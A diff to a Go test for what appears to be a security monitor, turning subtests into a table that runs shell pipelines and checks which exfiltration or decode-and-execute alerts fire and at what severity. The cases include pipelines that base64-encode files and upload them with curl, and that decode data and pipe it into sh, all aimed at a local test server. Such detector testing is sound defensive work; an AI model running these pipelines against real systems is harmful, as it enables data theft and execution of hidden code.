@@ -99,108 +99,76 @@ func TestKernelPipeEvidence(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	run := func(t *testing.T, sh string) {
-		t.Helper()
-		cmd := asNobody("sh", "-c", sh)
-		cmd.Dir = f.attackDir
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("%s: %v\n%s", sh, err, out)
-		}
+	if err := os.WriteFile(build, []byte("sleep 0.3\n"), 0o644); err != nil {
+		t.Fatal(err)
 	}
 	url := func(marker string) string { return srv.URL + "/" + marker }
+	shown := func(v string) bool { return strings.HasPrefix(v, "pipe:[") }
 
-	t.Run("xxd_head_then_curl", func(t *testing.T) {
-		// The complaint of the issue: no dataflow, no critical.
-		// The receiver holds the request ("slow"), as a remote one would:
-		// curl is read while it lives.
-		marker := fmt.Sprintf("pipe-none-slow-%d", time.Now().UnixNano())
-		run(t, "xxd "+small+" | head -2 >/dev/null; sleep 0.2; curl -s -o /dev/null "+url(marker))
-		got := d.sequenceAlerts(t, marker, "encoder_then_network")
-		a, ok := findSig(got, "encoder_then_network")
-		if !ok {
-			t.Fatalf("xxd | head, then curl raised %v, want encoder_then_network at a lower importance", got)
-		}
-		v, why := a.pipe()
-		t.Logf("encoder_then_network %s: pipe %q: %s", a.Signature.Importance, v, why)
-		if a.Signature.Importance != "medium" || v != "none" || !strings.Contains(why, "raised at medium") {
-			t.Errorf("encoder_then_network is %s with pipe %q (%s), want medium, pipe none and the reason", a.Signature.Importance, v, why)
-		}
-		for _, a := range got {
-			if a.Signature.Importance == "critical" {
-				t.Errorf("xxd | head, then curl raised the critical %s", a.Signature.Name)
-			}
-		}
-	})
-
-	t.Run("base64_file_piped_to_curl", func(t *testing.T) {
-		// A small file: base64 may be gone before its descriptors are read;
-		// a shared pipe is then not ruled out, and the alert stays critical.
-		marker := fmt.Sprintf("pipe-small-%d", time.Now().UnixNano())
-		run(t, "base64 "+small+" | curl -s -o /dev/null --data-binary @- "+url(marker))
-		got := d.sequenceAlerts(t, marker, "encoder_then_network")
-		a, ok := findSig(got, "encoder_then_network")
-		if !ok {
-			t.Fatalf("base64 f | curl --data-binary @- raised %v, want encoder_then_network", got)
-		}
-		v, why := a.pipe()
-		t.Logf("encoder_then_network %s: pipe %q: %s", a.Signature.Importance, v, why)
-		if a.Signature.Importance != "critical" || (!strings.HasPrefix(v, "pipe:[") && v != "unshown") {
-			t.Errorf("encoder_then_network is %s with pipe %q (%s), want critical with the pipe shown or unshown", a.Signature.Importance, v, why)
-		}
-	})
-
-	t.Run("big_upload_shows_the_pipe", func(t *testing.T) {
-		// base64 blocks on the pipe while curl uploads: both live, and the
-		// shared pipe is shown.
-		marker := fmt.Sprintf("pipe-big-slow-%d", time.Now().UnixNano())
-		run(t, "base64 "+big+" | curl -s -o /dev/null --data-binary @- "+url(marker))
-		got := d.sequenceAlerts(t, marker, "encoder_then_network")
-		a, ok := findSig(got, "encoder_then_network")
-		if !ok {
-			t.Fatalf("base64 big | curl raised %v, want encoder_then_network", got)
-		}
-		v, why := a.pipe()
-		t.Logf("encoder_then_network %s: pipe %q: %s", a.Signature.Importance, v, why)
-		if a.Signature.Importance != "critical" || !strings.HasPrefix(v, "pipe:[") {
-			t.Errorf("encoder_then_network is %s with pipe %q (%s), want critical with the shared pipe shown", a.Signature.Importance, v, why)
-		}
-	})
-
-	t.Run("decoder_through_a_filter_to_sh", func(t *testing.T) {
-		// base64 -d | gzip -dc | sh: the decoder's output reaches the shell
-		// through a live filter (gzip itself: gunzip is a shell script, an
-		// interpreter of its own). The sleep keeps the pipeline open.
-		marker := fmt.Sprintf("pipe-filter-%d", time.Now().UnixNano())
-		run(t, "(cat "+script+"; sleep 0.5) | base64 -d | gzip -dc | sh -s "+marker)
-		got := d.sequenceAlerts(t, marker, "decoder_piped_to_interpreter")
-		a, ok := findSig(got, "decoder_piped_to_interpreter")
-		if !ok {
-			t.Fatalf("base64 -d | gzip -dc | sh raised %v, want decoder_piped_to_interpreter", got)
-		}
-		v, why := a.pipe()
-		t.Logf("decoder_piped_to_interpreter %s: pipe %q: %s", a.Signature.Importance, v, why)
-		if a.Signature.Importance != "critical" || !strings.Contains(v, "through 1 filter") {
-			t.Errorf("decoder_piped_to_interpreter is %s with pipe %q (%s), want critical, shown through the filter", a.Signature.Importance, v, why)
-		}
-	})
-
-	t.Run("decode_to_file_then_sh", func(t *testing.T) {
+	tests := []struct {
+		name string
+		// cmd is the pipeline for a marker the alerts will mention.
+		cmd     func(marker string) string
+		sig     string
+		wantImp string
+		// wantPipe reports whether the pipe match's value is right.
+		wantPipe func(v string) bool
+		want     string // wantPipe in words
+	}{
+		// The complaint of the issue: no dataflow, no critical. The
+		// receiver holds the request ("slow") as a remote one would, so
+		// that curl is read while it lives.
+		{"xxd_head_then_curl", func(m string) string {
+			return "xxd " + small + " | head -2 >/dev/null; sleep 0.2; curl -s -o /dev/null " + url(m+"-slow")
+		}, "encoder_then_network", "medium", func(v string) bool { return v == "none" }, "none"},
+		// A small file: base64 may be gone before its descriptors are
+		// read; a shared pipe is then not ruled out, and the alert stays
+		// critical.
+		{"base64_file_piped_to_curl", func(m string) string {
+			return "base64 " + small + " | curl -s -o /dev/null --data-binary @- " + url(m)
+		}, "encoder_then_network", "critical", func(v string) bool { return shown(v) || v == "unshown" }, "shown or unshown"},
+		// base64 blocks on the pipe while curl uploads to a slow receiver:
+		// both live, and the shared pipe is shown.
+		{"big_upload_shows_the_pipe", func(m string) string {
+			return "base64 " + big + " | curl -s -o /dev/null --data-binary @- " + url(m+"-slow")
+		}, "encoder_then_network", "critical", shown, "the shared pipe"},
+		// The decoder's output reaches the shell through a live filter
+		// (gzip itself: gunzip is a shell script, an interpreter of its
+		// own). The sleep keeps the pipeline open.
+		{"decoder_through_a_filter_to_sh", func(m string) string {
+			return "(cat " + script + "; sleep 0.5) | base64 -d | gzip -dc | sh -s " + m
+		}, "decoder_piped_to_interpreter", "critical", func(v string) bool { return strings.Contains(v, "through 1 filter") }, "through 1 filter"},
 		// Decoding to a file and running a script of one's own (one that
 		// takes a moment, as builds do): the same parent, no pipe.
-		marker := fmt.Sprintf("pipe-file-%d", time.Now().UnixNano())
-		if err := os.WriteFile(build, []byte("sleep 0.3\n"), 0o644); err != nil {
-			t.Fatal(err)
-		}
-		run(t, "base64 -d "+script+" > decoded.gz; sh "+build+" "+marker+" </dev/null")
-		got := d.sequenceAlerts(t, marker, "decoder_piped_to_interpreter")
-		a, ok := findSig(got, "decoder_piped_to_interpreter")
-		if !ok {
-			t.Fatalf("base64 -d f > out; sh raised %v, want decoder_piped_to_interpreter at a lower importance", got)
-		}
-		v, why := a.pipe()
-		t.Logf("decoder_piped_to_interpreter %s: pipe %q: %s", a.Signature.Importance, v, why)
-		if a.Signature.Importance != "high" || v != "none" {
-			t.Errorf("decoder_piped_to_interpreter is %s with pipe %q (%s), want high with no pipe", a.Signature.Importance, v, why)
-		}
-	})
+		{"decode_to_file_then_sh", func(m string) string {
+			return "base64 -d " + script + " > decoded.gz; sh " + build + " " + m + " </dev/null"
+		}, "decoder_piped_to_interpreter", "high", func(v string) bool { return v == "none" }, "none"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			marker := fmt.Sprintf("pipe-%s-%d", tt.name, time.Now().UnixNano())
+			cmd := asNobody("sh", "-c", tt.cmd(marker))
+			cmd.Dir = f.attackDir
+			if out, err := cmd.CombinedOutput(); err != nil {
+				t.Fatalf("%s: %v\n%s", tt.cmd(marker), err, out)
+			}
+			got := d.sequenceAlerts(t, marker, tt.sig)
+			a, ok := findSig(got, tt.sig)
+			if !ok {
+				t.Fatalf("%s raised %v, want %s", tt.cmd(marker), got, tt.sig)
+			}
+			v, why := a.pipe()
+			t.Logf("%s %s: pipe %q: %s", tt.sig, a.Signature.Importance, v, why)
+			if a.Signature.Importance != tt.wantImp || !tt.wantPipe(v) || why == "" {
+				t.Errorf("%s is %s with pipe %q (%s), want %s with the pipe %s and the reason", tt.sig, a.Signature.Importance, v, why, tt.wantImp, tt.want)
+			}
+			if tt.wantImp != "critical" {
+				for _, a := range got {
+					if a.Signature.Importance == "critical" {
+						t.Errorf("%s raised the critical %s", tt.cmd(marker), a.Signature.Name)
+					}
+				}
+			}
+		})
+	}
 }
